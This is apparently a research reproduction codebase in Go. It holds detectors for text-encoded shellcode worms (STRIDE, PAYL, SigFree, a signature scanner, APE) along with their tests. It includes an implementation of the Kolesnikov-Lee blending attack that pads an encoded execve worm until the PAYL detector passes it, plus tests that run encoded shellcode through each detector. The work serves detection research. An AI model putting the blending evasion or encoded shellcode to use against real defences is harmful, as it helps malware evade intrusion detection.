		t.Fatal(err)
	}
	if v.SledFound {
		t.Error("payload shorter than window cannot contain a sled")
	}
}

func TestDetectsNOPSled(t *testing.T) {
	d := New(30, 4)
	sled := shellcode.SledWorm(300)
	v, err := d.Scan(sled.Code)
	if err != nil {
		t.Fatal(err)
	}
	if !v.SledFound {
		t.Errorf("NOP sled not found: coverage=%v at %d", v.Coverage, v.Position)
	}
	if v.Position > 270 {
		t.Errorf("sled found at %d, expected near the start", v.Position)
	}
}

func TestMissesRegisterSpringWorm(t *testing.T) {
	d := New(30, 4)
	spring := shellcode.RegisterSpringWorm(0x8048000, 0x7F)
	v, err := d.Scan(spring.Code)
	if err != nil {
		t.Fatal(err)
	}
	if v.SledFound {
		t.Error("register-spring worm has no sled; STRIDE should miss it")
	}
}

func TestTextSledTrips(t *testing.T) {
	// A text padding sled ('A' repeated) is executable from every offset,
	// so STRIDE fires on it — text streams look sled-like to binary worm
	// detectors, part of why they are the wrong tool for text channels.
	data := make([]byte, 200)
	for i := range data {
		data[i] = 'A' // inc ecx
	}
	d := New(30, 4)
	v, err := d.Scan(data)
	if err != nil {
		t.Fatal(err)
	}
	if !v.SledFound {
		t.Error("uniform text run should register as a sled surface")
	}
}

func TestBenignBinaryNoise(t *testing.T) {
	// Dense invalid opcodes break the every-offset property.
	data := make([]byte, 300)
	for i := range data {
		if i%3 == 0 {
			data[i] = 0x0F // escape into mostly-undefined territory
			if i+1 < len(data) {
				data[i+1] = 0xFF // undefined two-byte opcode
			}
		} else {
			data[i] = 0xCC // int3 (invalid under APE rules)
		}
	}
	d := New(30, 4)
	v, err := d.Scan(data)
	if err != nil {
		t.Fatal(err)
	}
	if v.SledFound {
		t.Errorf("garbage should not contain a sled (coverage %v)", v.Coverage)
	}
	if v.Coverage >= 1 {
		t.Error("coverage should be under 1 for garbage")
	}
}

func TestCoverageBounds(t *testing.T) {
	cases, err := corpus.Dataset(4, 3, 1000)
	if err != nil {
		t.Fatal(err)
	}
	d := New(30, 4)
	for _, c := range cases {
		v, err := d.Scan(c.Data)
		if err != nil {
			t.Fatal(err)
		}
		if v.Coverage < 0 || v.Coverage > 1 {
			t.Errorf("coverage out of range: %v", v.Coverage)
		}
	}
}

// Package stride implements a STRIDE-like polymorphic-sled detector
// (Akritidis et al., IFIP SEC 2005), the second binary-worm baseline of
// Section 4.1. STRIDE's insight: a sled must be executable from EVERY
// byte offset within some window (the exploit cannot control where the
// corrupted pointer lands), so it slides a window over the payload and
// reports a sled when all offsets in the window begin valid execution
// chains of sufficient length.
package stride

import (
	"errors"

	"repro/internal/mel"
)

// DefaultWindow is the sled-length window STRIDE checks (bytes).
const DefaultWindow = 30

// DefaultMinRun is the minimum valid-instruction chain from each offset.
const DefaultMinRun = 4

// Detector is a sliding-window sled detector.
type Detector struct {
	engine *mel.Engine
	window int
	minRun int
}

// New builds a detector. window is the sled window in bytes, minRun the
// minimum valid chain per offset; non-positive values take the defaults.
func New(window, minRun int) *Detector {
	if window <= 0 {
		window = DefaultWindow
	}
	if minRun <= 0 {
		minRun = DefaultMinRun
	}
	return &Detector{
		engine: mel.NewEngineMode(mel.APE(), mel.ModeAllPaths),
		window: window,
		minRun: minRun,
	}
}

// Verdict is a sled-detection result.
type Verdict struct {
	// SledFound is true when some window executes from every offset.
	SledFound bool
	// Position is the start of the first qualifying window.
	Position int
	// Coverage is the best fraction of offsets in any window that began
	// qualifying chains (1.0 when SledFound).
	Coverage float64
}

// Scan slides the window across the payload.
func (d *Detector) Scan(payload []byte) (Verdict, error) {
	if len(payload) == 0 {
		return Verdict{}, errors.New("stride: empty payload")
	}
	if len(payload) < d.window {
		return Verdict{}, nil
	}
	// Precompute per-offset valid-chain lengths once.
	runs := make([]int, len(payload))
	for off := range payload {
		m, err := d.engine.ScanFrom(payload, off)
		if err != nil {
			return Verdict{}, err
		}
		runs[off] = m
	}
	qualifying := make([]int, len(payload)) // 1 when runs[off] >= minRun
	for off, r := range runs {
		if r >= d.minRun {
			qualifying[off] = 1
		}
	}
	// Sliding sum of qualifying offsets.
	sum := 0
	for i := 0; i < d.window; i++ {
		sum += qualifying[i]
	}
	best, bestPos := sum, 0
	if sum == d.window {
		return Verdict{SledFound: true, Position: 0, Coverage: 1}, nil
	}
	for start := 1; start+d.window <= len(payload); start++ {
		sum += qualifying[start+d.window-1] - qualifying[start-1]
		if sum > best {
			best, bestPos = sum, start
		}
		if sum == d.window {
			return Verdict{SledFound: true, Position: start, Coverage: 1}, nil
		}
	}
	return Verdict{
		SledFound: false,
		Position:  bestPos,
		Coverage:  float64(best) / float64(d.window),
	}, nil
}

// Package payl implements a PAYL-style 1-gram payload anomaly detector
// (Wang & Stolfo, RAID 2004) and the Kolesnikov-Lee blending attack the
// paper cites against it (Section 1): a worm padded with bytes matching
// the benign byte-frequency profile slides under PAYL's distance
// threshold while its MEL stays high.
package payl

import (
	"errors"
	"math"

	"repro/internal/stats"
)

// SmoothingFactor is PAYL's variance smoothing constant.
const SmoothingFactor = 0.001

// Model is a trained 1-gram profile: per-byte mean and standard
// deviation of relative frequencies over benign payloads.
type Model struct {
	mean      [256]float64
	std       [256]float64
	threshold float64
	trained   bool
}

// Train fits the profile and sets the threshold at the maximum benign
// training distance times (1 + slack).
func Train(benign [][]byte, slack float64) (*Model, error) {
	if len(benign) < 2 {
		return nil, errors.New("payl: need at least 2 training payloads")
	}
	if slack < 0 {
		return nil, errors.New("payl: negative slack")
	}
	freqs := make([][256]float64, 0, len(benign))
	for _, b := range benign {
		if len(b) == 0 {
			return nil, errors.New("payl: empty training payload")
		}
		freqs = append(freqs, relFreq(b))
	}
	m := &Model{}
	for v := 0; v < 256; v++ {
		var sum float64
		for _, f := range freqs {
			sum += f[v]
		}
		m.mean[v] = sum / float64(len(freqs))
	}
	for v := 0; v < 256; v++ {
		var ss float64
		for _, f := range freqs {
			d := f[v] - m.mean[v]
			ss += d * d
		}
		m.std[v] = math.Sqrt(ss / float64(len(freqs)-1))
	}
	var maxDist float64
	for _, b := range benign {
		if d := m.Distance(b); d > maxDist {
			maxDist = d
		}
	}
	m.threshold = maxDist * (1 + slack)
	m.trained = true
	return m, nil
}

// Threshold returns the operating threshold.
func (m *Model) Threshold() float64 { return m.threshold }

// Distance returns the simplified Mahalanobis distance of the payload's
// 1-gram profile from the model:
// Σ_v |f_v - μ_v| / (σ_v + α).
func (m *Model) Distance(payload []byte) float64 {
	if len(payload) == 0 {
		return math.Inf(1)
	}
	f := relFreq(payload)
	var d float64
	for v := 0; v < 256; v++ {
		d += math.Abs(f[v]-m.mean[v]) / (m.std[v] + SmoothingFactor)
	}
	return d
}

// Verdict is a PAYL scan result.
type Verdict struct {
	Malicious bool
	Distance  float64
}

// Scan flags payloads whose distance exceeds the trained threshold.
func (m *Model) Scan(payload []byte) (Verdict, error) {
	if !m.trained {
		return Verdict{}, errors.New("payl: model not trained")
	}
	if len(payload) == 0 {
		return Verdict{}, errors.New("payl: empty payload")
	}
	d := m.Distance(payload)
	return Verdict{Malicious: d > m.threshold, Distance: d}, nil
}

func relFreq(b []byte) [256]float64 {
	var f [256]float64
	for _, v := range b {
		f[v]++
	}
	n := float64(len(b))
	for i := range f {
		f[i] /= n
	}
	return f
}

// Blend pads the payload with filler bytes drawn from the target byte
// distribution until the combined 1-gram profile approaches it — the
// Kolesnikov-Lee polymorphic-blending construction. The filler is
// appended after the payload (in a real exploit it rides in unused
// buffer space), is restricted to text bytes so the channel stays
// keyboard-enterable, and is sized at padFactor times the payload
// length.
func Blend(payload []byte, target [256]float64, padFactor int, seed uint64) ([]byte, error) {
	if len(payload) == 0 {
		return nil, errors.New("payl: empty payload")
	}
	if padFactor < 1 {
		return nil, errors.New("payl: padFactor must be >= 1")
	}
	// Build the text-restricted sampling distribution.
	var weights []float64
	var values []byte
	for v := 0x20; v <= 0x7E; v++ {
		if target[v] > 0 {
			weights = append(weights, target[v])
			values = append(values, byte(v))
		}
	}
	if len(values) == 0 {
		return nil, errors.New("payl: target distribution has no text mass")
	}
	rng := stats.NewRNG(seed)
	padLen := len(payload) * padFactor
	out := make([]byte, 0, len(payload)+padLen)
	out = append(out, payload...)
	for i := 0; i < padLen; i++ {
		out = append(out, values[rng.WeightedChoice(weights)])
	}
	return out, nil
}

package payl

import (
	"math"
	"testing"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
	"repro/internal/textins"
)

func benignPayloads(t *testing.T, seed uint64, n int) [][]byte {
	t.Helper()
	cases, err := corpus.Dataset(seed, n, 4000)
	if err != nil {
		t.Fatal(err)
	}
	out := make([][]byte, len(cases))
	for i, c := range cases {
		out[i] = c.Data
	}
	return out
}

func TestTrainValidation(t *testing.T) {
	if _, err := Train(nil, 0.1); err == nil {
		t.Error("empty training should fail")
	}
	if _, err := Train([][]byte{{1}}, 0.1); err == nil {
		t.Error("single payload should fail")
	}
	if _, err := Train([][]byte{{1}, nil}, 0.1); err == nil {
		t.Error("empty member should fail")
	}
	if _, err := Train(benignPayloads(t, 1, 3), -1); err == nil {
		t.Error("negative slack should fail")
	}
}

func TestScanValidation(t *testing.T) {
	m, err := Train(benignPayloads(t, 2, 5), 0.1)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.Scan(nil); err == nil {
		t.Error("empty payload should fail")
	}
	var untrained Model
	if _, err := untrained.Scan([]byte("x")); err == nil {
		t.Error("untrained model should fail")
	}
}

func TestBenignPassesMalwareFlagged(t *testing.T) {
	train := benignPayloads(t, 3, 30)
	m, err := Train(train, 0.3)
	if err != nil {
		t.Fatal(err)
	}
	// Held-out benign traffic stays under threshold.
	held := benignPayloads(t, 99, 10)
	fp := 0
	for _, b := range held {
		v, err := m.Scan(b)
		if err != nil {
			t.Fatal(err)
		}
		if v.Malicious {
			fp++
		}
	}
	if fp > 2 {
		t.Errorf("PAYL flagged %d/10 held-out benign cases", fp)
	}
	// Binary shellcode deviates wildly from the text profile.
	v, err := m.Scan(shellcode.Execve().Code)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Errorf("binary shellcode distance %v under threshold %v", v.Distance, m.Threshold())
	}
	// An unblended text worm also deviates (its byte mix is codes, not
	// prose).
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 4})
	if err != nil {
		t.Fatal(err)
	}
	v, err = m.Scan(w.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Errorf("raw text worm distance %v under threshold %v", v.Distance, m.Threshold())
	}
}

// TestBlendingEvadesPAYLButNotMEL reproduces the paper's Section 1
// argument via Kolesnikov-Lee blending: pad the text worm with benign-
// profile filler until PAYL passes it, then show the MEL detector still
// flags it.
func TestBlendingEvadesPAYLButNotMEL(t *testing.T) {
	train := benignPayloads(t, 5, 30)
	m, err := Train(train, 0.3)
	if err != nil {
		t.Fatal(err)
	}
	target, err := corpus.Frequencies(corpus.Concat(mustCases(t, 5, 30)))
	if err != nil {
		t.Fatal(err)
	}
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 6})
	if err != nil {
		t.Fatal(err)
	}
	blended, err := Blend(w.Bytes, target, 20, 7)
	if err != nil {
		t.Fatal(err)
	}
	if !textins.IsTextStream(blended) {
		t.Fatal("blended payload must stay pure text")
	}

	vPAYL, err := m.Scan(blended)
	if err != nil {
		t.Fatal(err)
	}
	if vPAYL.Malicious {
		t.Fatalf("blending failed: distance %v still above threshold %v",
			vPAYL.Distance, m.Threshold())
	}

	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	vMEL, err := det.Scan(blended)
	if err != nil {
		t.Fatal(err)
	}
	if !vMEL.Malicious {
		t.Errorf("MEL detector missed the blended worm (MEL=%d τ=%v)", vMEL.MEL, vMEL.Threshold)
	}
}

func mustCases(t *testing.T, seed uint64, n int) []corpus.Case {
	t.Helper()
	cases, err := corpus.Dataset(seed, n, 4000)
	if err != nil {
		t.Fatal(err)
	}
	return cases
}

func TestDistanceProperties(t *testing.T) {
	train := benignPayloads(t, 8, 10)
	m, err := Train(train, 0.1)
	if err != nil {
		t.Fatal(err)
	}
	// Distance to a training member is at most the pre-slack maximum.
	maxTrain := 0.0
	for _, b := range train {
		if d := m.Distance(b); d > maxTrain {
			maxTrain = d
		}
	}
	if maxTrain > m.Threshold() {
		t.Errorf("training max %v exceeds threshold %v", maxTrain, m.Threshold())
	}
	if !math.IsInf(m.Distance(nil), 1) {
		t.Error("distance of empty payload should be +Inf")
	}
}

func TestBlendValidation(t *testing.T) {
	var target [256]float64
	target['a'] = 1
	if _, err := Blend(nil, target, 2, 1); err == nil {
		t.Error("empty payload should fail")
	}
	if _, err := Blend([]byte("x"), target, 0, 1); err == nil {
		t.Error("padFactor=0 should fail")
	}
	var binaryOnly [256]float64
	binaryOnly[0x01] = 1
	if _, err := Blend([]byte("x"), binaryOnly, 2, 1); err == nil {
		t.Error("target without text mass should fail")
	}
	out, err := Blend([]byte("xy"), target, 3, 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 2+6 {
		t.Errorf("blended length %d, want 8", len(out))
	}
	if string(out[:2]) != "xy" {
		t.Error("payload must be preserved as prefix")
	}
}

// Package sigfree implements a SigFree-like detector (Wang et al.,
// USENIX Security 2006), the Section 4.2 contrast point. Where MEL
// counts every valid instruction, SigFree counts only "useful"
// instructions — those that participate in data flow — so padding-style
// filler does not inflate the score. The paper notes SigFree usually
// keeps its text-malware path disabled for performance; this
// implementation keeps it on and exposes the toggle.
package sigfree

import (
	"errors"

	"repro/internal/textins"
	"repro/internal/x86"
)

// DefaultThreshold is the useful-instruction count above which a payload
// is flagged. SigFree's published threshold is 15 for its full data-flow
// anomaly counter; this implementation's simplified def-use counter is
// deliberately conservative, so its operating point is calibrated lower.
const DefaultThreshold = 3

// Detector counts useful instructions in the most-useful execution chain.
type Detector struct {
	threshold int
	// SkipText mirrors SigFree's default of bypassing pure-text input to
	// protect throughput (Section 2's warning); off by default here.
	SkipText bool
}

// New builds a detector; non-positive threshold takes the default.
func New(threshold int) *Detector {
	if threshold <= 0 {
		threshold = DefaultThreshold
	}
	return &Detector{threshold: threshold}
}

// Threshold returns the operating threshold.
func (d *Detector) Threshold() int { return d.threshold }

// Verdict is a SigFree scan result.
type Verdict struct {
	// Malicious is true when Useful exceeds the threshold.
	Malicious bool
	// Useful is the maximum useful-instruction count over start offsets.
	Useful int
	// Skipped is true when the text bypass suppressed analysis.
	Skipped bool
}

// Scan counts useful instructions along the fall-through chain from
// every offset. An instruction is useful when it defines a register or
// memory that a later instruction in the same chain reads — approximated
// here with a def-use pairing over registers plus all memory writes.
func (d *Detector) Scan(payload []byte) (Verdict, error) {
	if len(payload) == 0 {
		return Verdict{}, errors.New("sigfree: empty payload")
	}
	if d.SkipText && textins.IsTextStream(payload) {
		return Verdict{Skipped: true}, nil
	}
	best := 0
	for off := 0; off < len(payload); off++ {
		if u := usefulFrom(payload, off); u > best {
			best = u
		}
	}
	return Verdict{Malicious: best > d.threshold, Useful: best}, nil
}

// usefulFrom walks the linear chain at off and counts the data-flow
// evidence SigFree looks for: reads of registers that were defined
// earlier in the same chain, and memory writes through such registers.
// Reads of never-defined registers, and writes through them, are noise
// (benign text produces them constantly) and count for nothing. The
// chain ends at any instruction that would abort execution (undefined
// opcode, privileged/I/O instruction) or transfer control away.
func usefulFrom(code []byte, off int) int {
	type defSite struct {
		reg  x86.Reg
		used bool
	}
	var defs []defSite
	defined := func(r x86.Reg) bool {
		if r == x86.ESP {
			return true // the stack pointer is always live
		}
		for i := range defs {
			if defs[i].reg == r {
				return true
			}
		}
		return false
	}
	useful := 0
	pos := off
	steps := 0
	for pos < len(code) && steps < 4096 {
		inst, err := x86.Decode(code, pos)
		if err != nil || inst.Flags.Has(x86.FlagUndefined) ||
			inst.Flags.Has(x86.FlagIO) || inst.Flags.Has(x86.FlagPrivileged) {
			break
		}
		steps++
		// An instruction is useful when it consumes a value the chain
		// defined (reads a defined register, or writes memory through a
		// defined pointer).
		consumes := false
		for _, r := range readRegs(&inst) {
			if r != x86.ESP && defined(r) {
				consumes = true
				break
			}
		}
		if inst.MemWrite && inst.MemBase != x86.RegNone && defined(inst.MemBase) {
			consumes = true
		}
		if consumes {
			useful++
		}
		// New defs.
		if r, ok := writeReg(&inst); ok {
			defs = append(defs, defSite{reg: r})
		}
		// Software interrupts return to the next instruction; all other
		// control transfers end the statically known chain.
		if inst.IsBranch() && !inst.Flags.Has(x86.FlagInt) {
			break
		}
		pos += inst.Len
	}
	return useful
}

// readRegs lists registers the instruction reads (address-forming and
// explicit register sources).
func readRegs(inst *x86.Inst) []x86.Reg {
	var out []x86.Reg
	if inst.MemAccess {
		if inst.MemBase != x86.RegNone {
			out = append(out, inst.MemBase)
		}
		if inst.MemIndex != x86.RegNone {
			out = append(out, inst.MemIndex)
		}
	}
	if inst.HasModRM && inst.Mod == 3 {
		out = append(out, x86.Reg(inst.RM))
	}
	switch inst.Op {
	case x86.OpPUSH:
		if !inst.HasModRM && !inst.TwoByte && inst.Opcode >= 0x50 && inst.Opcode <= 0x57 {
			out = append(out, x86.Reg(inst.Opcode&7))
		}
	case x86.OpINC, x86.OpDEC:
		if !inst.HasModRM && !inst.TwoByte {
			out = append(out, x86.Reg(inst.Opcode&7))
		}
	case x86.OpMOV:
		if inst.Opcode == 0x88 || inst.Opcode == 0x89 {
			out = append(out, x86.Reg(inst.RegField)) // store source
		}
	case x86.OpINT:
		out = append(out, x86.EAX, x86.EBX, x86.ECX, x86.EDX)
	}
	return out
}

// writeReg returns the register the instruction defines, if any.
func writeReg(inst *x86.Inst) (x86.Reg, bool) {
	switch inst.Op {
	case x86.OpPOP:
		if !inst.HasModRM && !inst.TwoByte && inst.Opcode >= 0x58 && inst.Opcode <= 0x5F {
			return x86.Reg(inst.Opcode & 7), true
		}
	case x86.OpMOV:
		if inst.Opcode >= 0xB0 && inst.Opcode <= 0xBF {
			return x86.Reg(inst.Opcode & 7), true
		}
		if inst.Opcode == 0x8B || inst.Opcode == 0x8A {
			return x86.Reg(inst.RegField), true
		}
		if (inst.Opcode == 0x88 || inst.Opcode == 0x89) && inst.Mod == 3 {
			return x86.Reg(inst.RM), true // register-to-register store form
		}
	case x86.OpINC, x86.OpDEC:
		if !inst.HasModRM && !inst.TwoByte {
			return x86.Reg(inst.Opcode & 7), true
		}
	case x86.OpLEA, x86.OpMOVZX, x86.OpMOVSX, x86.OpIMUL:
		if inst.HasModRM {
			return x86.Reg(inst.RegField), true
		}
	case x86.OpXOR, x86.OpSUB, x86.OpADD, x86.OpAND, x86.OpOR:
		if inst.HasModRM && inst.Mod == 3 {
			return x86.Reg(inst.RM), true
		}
		if !inst.HasModRM && inst.ImmSize > 0 {
			return x86.EAX, true // accumulator-immediate forms
		}
	}
	return 0, false
}

package sigfree

import (
	"testing"

	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

func TestDefaults(t *testing.T) {
	d := New(0)
	if d.Threshold() != DefaultThreshold {
		t.Errorf("threshold = %d", d.Threshold())
	}
	d = New(25)
	if d.Threshold() != 25 {
		t.Errorf("threshold = %d", d.Threshold())
	}
}

func TestScanValidation(t *testing.T) {
	d := New(0)
	if _, err := d.Scan(nil); err == nil {
		t.Error("empty payload should fail")
	}
}

func TestTextBypassToggle(t *testing.T) {
	// Section 2: SigFree usually bypasses text input. With the toggle on,
	// pure-text worms sail through unanalyzed.
	d := New(0)
	d.SkipText = true
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	v, err := d.Scan(w.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Skipped || v.Malicious {
		t.Errorf("text bypass should skip analysis: %+v", v)
	}
	// Binary input is still analyzed.
	v, err = d.Scan(shellcode.Execve().Code)
	if err != nil {
		t.Fatal(err)
	}
	if v.Skipped {
		t.Error("binary input must not be skipped")
	}
}

func TestDetectsBinaryShellcode(t *testing.T) {
	d := New(0)
	for _, sc := range shellcode.Corpus() {
		if !sc.SpawnsShell {
			// The exit/write payloads are deliberately tiny (3-5 useful
			// instructions); even real SigFree needs enough data flow to
			// anomalize. Only shell-spawning payloads are must-catch.
			continue
		}
		v, err := d.Scan(sc.Code)
		if err != nil {
			t.Fatal(err)
		}
		if !v.Malicious {
			t.Errorf("%s: useful=%d below threshold %d", sc.Name, v.Useful, d.Threshold())
		}
	}
}

func TestDetectsTextWormWhenEnabled(t *testing.T) {
	// With text analysis on, the decrypter's heavy def-use chains and
	// memory writes push the useful count over the threshold.
	d := New(0)
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 2})
	if err != nil {
		t.Fatal(err)
	}
	v, err := d.Scan(w.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Errorf("text worm useful count = %d, threshold %d", v.Useful, d.Threshold())
	}
}

func TestBenignTextLowUsefulCount(t *testing.T) {
	cases, err := corpus.Dataset(6, 10, 4000)
	if err != nil {
		t.Fatal(err)
	}
	d := New(0)
	flagged := 0
	for _, c := range cases {
		v, err := d.Scan(c.Data)
		if err != nil {
			t.Fatal(err)
		}
		if v.Malicious {
			flagged++
		}
	}
	// Useful-instruction counting is noisier than MEL on text; require
	// only that it does not flag everything.
	if flagged == len(cases) {
		t.Errorf("sigfree flagged all %d benign cases", flagged)
	}
	t.Logf("sigfree flagged %d/%d benign cases", flagged, len(cases))
}

func TestUsefulCountMonotonicity(t *testing.T) {
	// Appending an unrelated valid suffix cannot reduce the best count.
	base := shellcode.Execve().Code
	d := New(0)
	v1, err := d.Scan(base)
	if err != nil {
		t.Fatal(err)
	}
	longer := append(append([]byte{}, base...), 0x90, 0x90, 0x90)
	v2, err := d.Scan(longer)
	if err != nil {
		t.Fatal(err)
	}
	if v2.Useful < v1.Useful {
		t.Errorf("useful count dropped from %d to %d after appending nops", v1.Useful, v2.Useful)
	}
}

// Package signature implements a byte-signature scanner over the binary
// shellcode corpus — the stand-in for the commercial AV of Section 5.1.
// The experiment it supports: the scanner flags every binary shellcode
// (whose signatures it knows) and none of their text re-encodings, which
// share no byte signatures with the originals.
package signature

import (
	"bytes"
	"errors"
	"fmt"
)

// MinSignatureLen is the shortest allowed signature.
const MinSignatureLen = 4

// Signature is one named byte pattern.
type Signature struct {
	Name    string
	Pattern []byte
}

// DB is a signature database.
type DB struct {
	sigs []Signature
}

// NewDB builds a database from explicit signatures.
func NewDB(sigs []Signature) (*DB, error) {
	db := &DB{}
	for i, s := range sigs {
		if len(s.Pattern) < MinSignatureLen {
			return nil, fmt.Errorf("signature %d (%s): pattern shorter than %d bytes",
				i, s.Name, MinSignatureLen)
		}
		db.sigs = append(db.sigs, Signature{
			Name:    s.Name,
			Pattern: append([]byte(nil), s.Pattern...),
		})
	}
	return db, nil
}

// FromSamples extracts signatures from known-malicious samples, the way
// AV vendors fingerprint corpora: a distinctive slice from the head and
// one from the tail of each sample.
func FromSamples(names []string, samples [][]byte, sigLen int) (*DB, error) {
	if len(names) != len(samples) {
		return nil, errors.New("signature: names/samples length mismatch")
	}
	if sigLen < MinSignatureLen {
		return nil, fmt.Errorf("signature: sigLen %d below minimum %d", sigLen, MinSignatureLen)
	}
	var sigs []Signature
	for i, s := range samples {
		if len(s) < sigLen {
			return nil, fmt.Errorf("signature: sample %q shorter than sigLen", names[i])
		}
		sigs = append(sigs, Signature{
			Name:    names[i] + ".head",
			Pattern: s[:sigLen],
		})
		sigs = append(sigs, Signature{
			Name:    names[i] + ".tail",
			Pattern: s[len(s)-sigLen:],
		})
	}
	return NewDB(sigs)
}

// Size returns the number of signatures.
func (db *DB) Size() int { return len(db.sigs) }

// Match is one signature hit.
type Match struct {
	Name   string
	Offset int
}

// Scan returns every signature match in the payload.
func (db *DB) Scan(payload []byte) []Match {
	var out []Match
	for _, sig := range db.sigs {
		if off := bytes.Index(payload, sig.Pattern); off >= 0 {
			out = append(out, Match{Name: sig.Name, Offset: off})
		}
	}
	return out
}

// Infected reports whether any signature matches.
func (db *DB) Infected(payload []byte) bool {
	for _, sig := range db.sigs {
		if bytes.Contains(payload, sig.Pattern) {
			return true
		}
	}
	return false
}

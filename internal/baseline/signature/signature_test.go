package signature

import (
	"testing"

	"repro/internal/encoder"
	"repro/internal/shellcode"
)

func corpusDB(t *testing.T) *DB {
	t.Helper()
	scs := shellcode.Corpus()
	names := make([]string, len(scs))
	samples := make([][]byte, len(scs))
	for i, sc := range scs {
		names[i] = sc.Name
		samples[i] = sc.Code
	}
	db, err := FromSamples(names, samples, 6)
	if err != nil {
		t.Fatal(err)
	}
	return db
}

func TestNewDBValidation(t *testing.T) {
	if _, err := NewDB([]Signature{{Name: "x", Pattern: []byte{1, 2}}}); err == nil {
		t.Error("short pattern should fail")
	}
	db, err := NewDB([]Signature{{Name: "x", Pattern: []byte{1, 2, 3, 4}}})
	if err != nil {
		t.Fatal(err)
	}
	if db.Size() != 1 {
		t.Errorf("size = %d", db.Size())
	}
}

func TestFromSamplesValidation(t *testing.T) {
	if _, err := FromSamples([]string{"a"}, nil, 8); err == nil {
		t.Error("length mismatch should fail")
	}
	if _, err := FromSamples([]string{"a"}, [][]byte{{1, 2, 3}}, 2); err == nil {
		t.Error("tiny sigLen should fail")
	}
	if _, err := FromSamples([]string{"a"}, [][]byte{{1, 2, 3}}, 8); err == nil {
		t.Error("sample shorter than sigLen should fail")
	}
}

func TestSignatureIsolation(t *testing.T) {
	// DB must copy patterns so later mutation cannot corrupt it.
	pattern := []byte{1, 2, 3, 4, 5}
	db, err := NewDB([]Signature{{Name: "x", Pattern: pattern}})
	if err != nil {
		t.Fatal(err)
	}
	pattern[0] = 99
	if !db.Infected([]byte{0, 1, 2, 3, 4, 5, 6}) {
		t.Error("mutated caller slice corrupted the DB")
	}
}

// TestBinaryCaughtTextMissed is the Section 5.1 AV experiment: the
// scanner flags all binary shellcodes and none of their text encodings.
func TestBinaryCaughtTextMissed(t *testing.T) {
	db := corpusDB(t)
	for _, sc := range shellcode.Corpus() {
		if !db.Infected(sc.Code) {
			t.Errorf("binary %s not flagged", sc.Name)
		}
		w, err := encoder.Encode(sc.Code, encoder.Options{Seed: 11})
		if err != nil {
			t.Fatal(err)
		}
		if db.Infected(w.Bytes) {
			t.Errorf("text encoding of %s matched a binary signature", sc.Name)
		}
	}
}

func TestScanReportsOffsets(t *testing.T) {
	db := corpusDB(t)
	payload := append(make([]byte, 100), shellcode.Execve().Code...)
	matches := db.Scan(payload)
	if len(matches) == 0 {
		t.Fatal("no matches on embedded shellcode")
	}
	found := false
	for _, m := range matches {
		if m.Name == "execve.head" && m.Offset == 100 {
			found = true
		}
	}
	if !found {
		t.Errorf("expected execve.head at offset 100, got %+v", matches)
	}
}

func TestCleanPayload(t *testing.T) {
	db := corpusDB(t)
	if db.Infected([]byte("GET /index.html HTTP/1.1")) {
		t.Error("benign request flagged")
	}
	if matches := db.Scan(nil); len(matches) != 0 {
		t.Error("empty payload matched")
	}
}

func TestVariantsShareSignatures(t *testing.T) {
	// Diversified variants still embed the base payloads, so the scanner
	// catches them — signatures work fine on un-re-encoded binaries.
	db := corpusDB(t)
	for _, v := range shellcode.Variants(5, 10) {
		if !db.Infected(v.Code) {
			t.Errorf("variant %s missed", v.Name)
		}
	}
}

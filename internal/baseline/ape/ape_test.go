package ape

import (
	"testing"

	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

func benign(t *testing.T, seed uint64, n int) [][]byte {
	t.Helper()
	cases, err := corpus.Dataset(seed, n, 4000)
	if err != nil {
		t.Fatal(err)
	}
	out := make([][]byte, len(cases))
	for i, c := range cases {
		out[i] = c.Data
	}
	return out
}

func TestOptions(t *testing.T) {
	if _, err := New(WithSamples(0)); err == nil {
		t.Error("samples=0 should fail")
	}
	if _, err := New(WithThreshold(0)); err == nil {
		t.Error("threshold=0 should fail")
	}
	d, err := New(WithThreshold(50), WithSamples(10), WithSeed(1))
	if err != nil {
		t.Fatal(err)
	}
	if d.Threshold() != 50 || !d.Trained() {
		t.Errorf("threshold=%d trained=%v", d.Threshold(), d.Trained())
	}
}

func TestScanValidation(t *testing.T) {
	d, err := New()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.Scan(nil); err == nil {
		t.Error("empty payload should fail")
	}
}

func TestDetectsSledWorm(t *testing.T) {
	// APE was built for sled worms and must catch them.
	d, err := New(WithSeed(2))
	if err != nil {
		t.Fatal(err)
	}
	sled := shellcode.SledWorm(500)
	v, err := d.Scan(sled.Code)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Errorf("sled worm evaded APE: MEL=%d threshold=%d", v.MEL, d.Threshold())
	}
}

func TestMissesRegisterSpringWorm(t *testing.T) {
	// Section 4.1: modern sled-less worms evade APE.
	d, err := New(WithSeed(3))
	if err != nil {
		t.Fatal(err)
	}
	spring := shellcode.RegisterSpringWorm(0x8048000, 0x7F)
	v, err := d.Scan(spring.Code)
	if err != nil {
		t.Fatal(err)
	}
	if v.Malicious {
		t.Errorf("register-spring worm flagged by APE: MEL=%d", v.MEL)
	}
}

// TestIneffectiveOnText is the Section 6 result: trained on benign text,
// APE's experimentally derived threshold is so high (benign text MEL is
// huge under its narrow rules) that text worms slip under it.
func TestIneffectiveOnText(t *testing.T) {
	d, err := New(WithSeed(4))
	if err != nil {
		t.Fatal(err)
	}
	if err := d.Train(benign(t, 8, 15), 1); err != nil {
		t.Fatal(err)
	}
	if d.Threshold() < 100 {
		t.Errorf("APE text-trained threshold = %d; expected far above DAWN's 40", d.Threshold())
	}
	missed := 0
	const worms = 10
	for i := 0; i < worms; i++ {
